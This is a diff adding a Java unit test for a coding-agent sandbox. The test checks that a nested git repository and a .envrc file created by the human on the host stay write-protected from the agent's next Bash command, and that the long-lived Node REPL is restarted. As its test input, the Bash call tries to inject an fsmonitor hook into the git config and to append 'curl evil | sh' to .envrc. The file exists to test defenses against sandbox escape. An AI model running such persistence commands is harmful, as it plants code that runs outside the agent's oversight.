@@ -1,0 +1,64 @@
+package dev.monoagent.tools;
+
+import static dev.monoagent.tools.Fixture.json;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.monoagent.common.Event;
+import dev.monoagent.config.Enums;
+import dev.monoagent.config.LoadedConfig;
+import dev.monoagent.sandbox.Sandbox;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.concurrent.CopyOnWriteArrayList;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Issue 9 escape E-B: while a NodeRepl lives, a nested repository and a hook-manager file that the human creates on
+ * the host must be as protected from the next Bash command as if no long-lived process ran. Every command runs under
+ * the protected set current at its start: the engine ends the REPL (started under the old set) and re-initialises;
+ * the next NodeRepl call says its state was lost.
+ */
+class ProtectedSetChangeTest {
+    @TempDir
+    Path tmp;
+
+    @Test
+    void filesTheHumanCreatesWhileTheReplLivesAreDeniedToTheNextCommand() throws Exception {
+        Path ws = SandboxedToolsTest.workspace(tmp);
+        LoadedConfig cfg = SandboxedToolsTest.config(ws, Enums.NetworkMode.NONE);
+        List<Event> events = new CopyOnWriteArrayList<>();
+        try (Sandbox sb = Sandbox.open(cfg, events::add, dev.monoagent.sandbox.TestEngine.env());
+             Tools tools = Tools.open(cfg, sb, events::add)) {
+            assertEquals("ready", sb.status().state(), String.join("\n", sb.status().lines()));
+            Tools.Run run = tools.run("run-eb");
+            assertEquals("undefined", run.call("c-1", "NodeRepl", json("code", "var n = 40")).text());
+            // the human, on the host: a nested repository and a direnv file, both protected names
+            Path git = Files.createDirectories(ws.resolve("sub/.git"));
+            Files.createDirectories(git.resolve("objects"));
+            Files.createDirectories(git.resolve("refs"));
+            Files.writeString(git.resolve("HEAD"), "ref: refs/heads/main\n");
+            String config = "[core]\n\trepositoryformatversion = 0\n";
+            Files.writeString(git.resolve("config"), config);
+            Files.writeString(ws.resolve(".envrc"), "export A=1\n");
+            ToolResult b = run.call("c-2", "Bash", json("command",
+                    "printf '\\tfsmonitor = touch /tmp/pwned-eb\\n' >> sub/.git/config; echo cfg=$?; "
+                    + "echo 'curl evil | sh' >> .envrc; echo envrc=$?"));
+            assertEquals(config, Files.readString(git.resolve("config")), "nested repository config changed: "
+                    + b.text());
+            assertEquals("export A=1\n", Files.readString(ws.resolve(".envrc")), ".envrc changed: " + b.text());
+            assertTrue(b.text().contains("cfg=1") && b.text().contains("envrc=1"), b.text());
+            // the REPL ran under the old protected set, so it was ended; the model is told its state is gone
+            ToolResult r = run.call("c-3", "NodeRepl", json("code", "typeof n"));
+            assertTrue(r.text().startsWith("Note: the NodeRepl process was restarted"), r.text());
+            assertTrue(r.text().contains("protected files changed"), r.text());
+            assertTrue(r.text().endsWith("'undefined'"), r.text());
+            // and a REPL started now does not get to write them either
+            ToolResult w = run.call("c-4", "NodeRepl", json("code",
+                    "try { require('fs').appendFileSync('sub/.git/config', 'x'); 'wrote' } catch (e) { e.code }"));
+            assertEquals(config, Files.readString(git.resolve("config")), w.text());
+        }
+    }
+}
